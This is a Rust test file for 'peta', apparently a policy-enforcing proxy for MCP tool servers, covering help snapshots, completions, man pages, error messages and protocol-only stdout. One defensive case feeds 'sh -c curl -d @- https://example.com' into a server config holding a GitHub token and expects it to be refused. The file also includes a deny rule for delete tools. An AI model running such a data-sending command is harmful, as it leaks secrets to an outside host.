//! The command-line surface: `--help` pinned by snapshots, completions committed and
//! current, user-facing errors, and stdout of `peta run` carrying nothing but protocol.

use std::path::Path;

use crate::support::{peta, peta_command};

/// Compares `actual` with the committed snapshot, or rewrites it when `PETA_BLESS=1`.
#[track_caller]
pub(crate) fn snapshot(name: &str, actual: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/snapshots")
        .join(name);
    if std::env::var("PETA_BLESS").is_ok_and(|v| v == "1") {
        std::fs::create_dir_all(path.parent().expect("dir")).expect("mkdir");
        std::fs::write(&path, actual).expect("write snapshot");
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_else(|_| {
        panic!(
            "missing snapshot {}; run with PETA_BLESS=1 to create it",
            path.display()
        )
    });
    assert_eq!(
        actual, expected,
        "snapshot {name} changed; run with PETA_BLESS=1 if that is intended"
    );
}

fn run(args: &[&str]) -> (Option<i32>, String, String) {
    let out = peta_command()
        .args(args)
        .env_remove("PETA_CONFIG")
        .output()
        .expect("run peta");
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn help_texts() {
    for (name, args) in [
        ("help.txt", &["--help"][..]),
        ("help-run.txt", &["run", "--help"]),
        ("help-demo.txt", &["demo", "--help"]),
        ("help-policy-test.txt", &["policy", "test", "--help"]),
        ("help-approve.txt", &["approve", "--help"]),
        ("help-tools.txt", &["tools", "--help"]),
        ("help-tools-list.txt", &["tools", "list", "--help"]),
        ("help-tools-approve.txt", &["tools", "approve", "--help"]),
        ("help-doctor.txt", &["doctor", "--help"]),
        ("help-init.txt", &["init", "--help"]),
        ("help-config-check.txt", &["config", "check", "--help"]),
        ("help-secret-set.txt", &["secret", "set", "--help"]),
        ("help-vault-init.txt", &["vault", "init", "--help"]),
        ("help-install.txt", &["install", "--help"]),
        ("help-uninstall.txt", &["uninstall", "--help"]),
        ("help-audit-forward.txt", &["audit", "forward", "--help"]),
    ] {
        let (code, stdout, _) = run(args);
        assert_eq!(code, Some(0));
        snapshot(name, &stdout);
    }
}

#[test]
fn completions_are_committed_and_current() {
    use clap_complete::Shell;
    for shell in [
        Shell::Bash,
        Shell::Zsh,
        Shell::Fish,
        Shell::Elvish,
        Shell::PowerShell,
    ] {
        let file = peta::commands::completions::file_name(shell);
        let path = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("completions")
            .join(&file);
        let generated = peta::commands::completions::script(shell);
        if std::env::var("PETA_BLESS").is_ok_and(|v| v == "1") {
            std::fs::create_dir_all(path.parent().expect("dir")).expect("mkdir");
            std::fs::write(&path, &generated).expect("write");
            continue;
        }
        let committed =
            std::fs::read(&path).unwrap_or_else(|_| panic!("completions/{file} is missing"));
        assert!(
            committed == generated,
            "completions/{file} is stale; run PETA_BLESS=1 cargo test"
        );
        // The binary prints the same script.
        let (code, stdout, _) = run(&["completions", &shell.to_string()]);
        assert_eq!(code, Some(0));
        assert_eq!(stdout.as_bytes(), &generated[..]);
    }
}

#[test]
fn user_facing_errors() {
    let dir = tempfile::tempdir().expect("tempdir");
    let bad = dir.path().join("bad.toml");
    std::fs::write(&bad, "[relay]\nshutdown_grase = \"1s\"\n").expect("write");
    let loose = dir.path().join("loose.toml");
    std::fs::write(&loose, "").expect("write");
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&loose, std::fs::Permissions::from_mode(0o666)).expect("chmod");
    let empty = dir.path().join("empty.toml");
    std::fs::write(&empty, "[servers.gh]\n").expect("write");
    let bad_rule = dir.path().join("bad-rule.toml");
    std::fs::write(
        &bad_rule,
        "[[rules]]\nid = \"no-rm\"\ntool = \"delete_*\"\naction = \"deny\"\nargs = { \"/path\" = { glob = \"/etc/[\" } }\n",
    )
    .expect("write");
    let bound = dir.path().join("bound.toml");
    std::fs::write(
        &bound,
        "[servers.github]\ncommand = [\"npx\", \"-y\", \"@modelcontextprotocol/server-github\"]\nenv = { GITHUB_TOKEN = \"keyring:github\" }\n",
    )
    .expect("write");
    let empty_db = dir.path().join("empty.db");
    std::fs::write(&empty_db, "").expect("write");
    // A box that would let the server write the directory holding peta's own config.
    let own_write = dir.path().join("own-write.toml");
    std::fs::write(
        &own_write,
        format!(
            "[servers.fs]\ncommand = [\"true\"]\n[servers.fs.sandbox]\nwrite = [\"{}\"]\n",
            dir.path().display()
        ),
    )
    .expect("write");
    let cases: Vec<(&str, Vec<String>, i32)> = vec![
        (
            "error-tools-no-db.txt",
            vec![
                "tools".into(),
                "list".into(),
                "--db".into(),
                dir.path().join("missing.db").display().to_string(),
            ],
            125,
        ),
        (
            "error-tools-nothing-to-approve.txt",
            vec![
                "tools".into(),
                "approve".into(),
                "demo".into(),
                "--all".into(),
                "--db".into(),
                empty_db.display().to_string(),
            ],
            1,
        ),
        (
            "error-tools-diff-unknown.txt",
            vec![
                "tools".into(),
                "diff".into(),
                "demo".into(),
                "echo".into(),
                "--db".into(),
                empty_db.display().to_string(),
            ],
            1,
        ),
        (
            "error-not-found.txt",
            vec!["run".into(), "--".into(), "/no/such/server".into()],
            127,
        ),
        ("error-no-command.txt", vec!["run".into()], 2),
        (
            "error-forward-not-configured.txt",
            vec![
                "audit".into(),
                "forward".into(),
                "--config".into(),
                empty.display().to_string(),
            ],
            2,
        ),
        (
            "error-no-command-server.txt",
            vec![
                "run".into(),
                "--config".into(),
                empty.display().to_string(),
                "--server".into(),
                "gh".into(),
            ],
            2,
        ),
        (
            "error-unknown-key.txt",
            vec![
                "run".into(),
                "--config".into(),
                bad.display().to_string(),
                "--".into(),
                "true".into(),
            ],
            78,
        ),
        (
            "error-loose-config.txt",
            vec![
                "run".into(),
                "--config".into(),
                loose.display().to_string(),
                "--".into(),
                "true".into(),
            ],
            78,
        ),
        (
            "error-bad-grace.txt",
            vec![
                "run".into(),
                "--grace".into(),
                "soon".into(),
                "--".into(),
                "true".into(),
            ],
            2,
        ),
        (
            "error-bad-rule.txt",
            vec![
                "policy".into(),
                "test".into(),
                "--config".into(),
                bad_rule.display().to_string(),
                "fs".into(),
                "delete_file".into(),
            ],
            78,
        ),
        (
            "error-policy-args.txt",
            vec![
                "policy".into(),
                "test".into(),
                "fs".into(),
                "write_file".into(),
                "{path: /etc}".into(),
            ],
            2,
        ),
        (
            "error-bound-command.txt",
            vec![
                "run".into(),
                "--config".into(),
                bound.display().to_string(),
                "--server".into(),
                "github".into(),
                "--".into(),
                "sh".into(),
                "-c".into(),
                "curl -d @- https://example.com".into(),
            ],
            78,
        ),
        (
            "error-sandbox-missing-write.txt",
            vec![
                "run".into(),
                "--sandbox-write".into(),
                dir.path().join("missing").display().to_string(),
                "--".into(),
                "true".into(),
            ],
            78,
        ),
        (
            "error-sandbox-own-write.txt",
            vec![
                "run".into(),
                "--config".into(),
                own_write.display().to_string(),
                "--server".into(),
                "fs".into(),
            ],
            78,
        ),
        (
            "error-missing-config.txt",
            vec![
                "run".into(),
                "--config".into(),
                "/no/such/peta.toml".into(),
                "--".into(),
                "true".into(),
            ],
            78,
        ),
    ];
    for (name, args, expected) in cases {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let (code, stdout, stderr) = run(&args);
        assert_eq!(code, Some(expected), "{name}: {stderr}");
        assert!(stdout.is_empty(), "{name}: nothing on stdout");
        let stderr = stderr.replace(&dir.path().display().to_string(), "[TMP]");
        snapshot(name, &stderr);
    }
}

#[test]
fn the_server_exit_code_passes_through() {
    let (code, stdout, _) = run(&["run", "--", "sh", "-c", "exit 42"]);
    assert_eq!(code, Some(42));
    assert!(stdout.is_empty());
}

#[test]
fn stdout_of_peta_run_is_protocol_only_even_with_trace_logging() {
    let out = peta_command()
        .args(["run", "--", peta(), "demo-server"])
        .env("PETA_LOG", "trace")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write;
            let mut stdin = child.stdin.take().expect("stdin");
            stdin.write_all(b"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":{\"protocolVersion\":\"2025-11-25\",\"capabilities\":{},\"clientInfo\":{\"name\":\"t\",\"version\":\"1\"}}}\n{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}\n{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/list\"}\nnot json\n")?;
            drop(stdin);
            child.wait_with_output()
        })
        .expect("run");
    assert!(out.status.success());
    let stdout = String::from_utf8(out.stdout).expect("utf-8");
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), 3, "two responses and one refusal: {stdout}");
    for line in lines {
        let v: serde_json::Value =
            serde_json::from_str(line).expect("every stdout line is JSON-RPC");
        assert_eq!(v["jsonrpc"], "2.0");
    }
    assert!(!out.stderr.is_empty(), "trace logging went to stderr");
}

#[test]
fn the_demo_runs_end_to_end() {
    let (code, stdout, stderr) = run(&["demo"]);
    assert_eq!(code, Some(0), "{stderr}");
    for expected in [
        "peta-demo",
        "tools/call echo",
        "add 2 + 40 → 42",
        "denied by the rule `no-deletes`",
        "peta: demo wants to run tools/call write_file",
        "approved; only now did the server get the call: \"pretended to write 5 bytes",
        "`peta audit verify` says:\n     ok:",
        "duplicate key \"name\"",
        "batch",
        "exited with its code (0)",
    ] {
        assert!(
            stdout.contains(expected),
            "missing {expected:?} in:\n{stdout}"
        );
    }
}

/// The man pages in `man/` are generated from the CLI definition: `peta.1` and one page per
/// subcommand (`peta-run.1`, …). `PETA_BLESS=1 cargo test` regenerates them.
#[test]
fn man_pages_are_committed_and_current() {
    use clap::CommandFactory;
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("man");
    let bless = std::env::var("PETA_BLESS").is_ok_and(|v| v == "1");
    let root = peta::cli::Cli::command();
    let mut pages = vec![(String::from("peta"), root.clone())];
    for sub in root.get_subcommands().filter(|s| !s.is_hide_set()) {
        pages.push((
            format!("peta-{}", sub.get_name()),
            sub.clone()
                .display_name(format!("peta-{}", sub.get_name()))
                .bin_name(format!("peta {}", sub.get_name())),
        ));
    }
    for (name, command) in pages {
        let mut generated = Vec::new();
        clap_mangen::Man::new(command)
            .render(&mut generated)
            .expect("render");
        let path = dir.join(format!("{name}.1"));
        if bless {
            std::fs::create_dir_all(&dir).expect("mkdir");
            std::fs::write(&path, &generated).expect("write");
            continue;
        }
        let committed = std::fs::read(&path).unwrap_or_else(|_| panic!("man/{name}.1 is missing"));
        assert!(
            committed == generated,
            "man/{name}.1 is stale; run PETA_BLESS=1 cargo test"
        );
    }
}
